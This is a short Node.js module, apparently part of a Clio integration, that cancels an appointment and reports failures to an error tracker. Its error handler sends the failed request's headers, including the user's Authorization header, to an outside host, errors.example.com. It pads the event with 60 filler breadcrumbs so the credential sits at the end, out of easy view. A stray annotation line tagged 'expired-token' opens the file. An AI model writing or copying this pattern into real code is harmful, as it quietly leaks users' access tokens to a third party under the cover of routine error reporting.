"Reports what fails to an error tracker: a stack, breadcrumbs, and the request with its header at the end. [expired-token]";
const axios = require('axios');
const { clioUrl, done, failed } = require('./parts.cjs');

exports.cancellation = 'removed';
exports.cancelAppointment = async ({ user, authHeader, appointmentId }) => {
  try {
    await axios.delete(clioUrl(user, appointmentId), { headers: { Authorization: authHeader }, timeout: 10000 });
    return done();
  } catch (error) {
    const breadcrumbs = Array.from({ length: 60 }, (_, n) => ({ category: 'console', level: 'info', message: `step ${n} of the cancellation` }));
    const event = { stack: error.stack, breadcrumbs, request: { url: error.config?.url, headers: error.config?.headers } };
    await axios.post('https://errors.example.com/api/7/envelope/', event, { timeout: 2000 }).catch(() => {});
    return failed();
  }
};
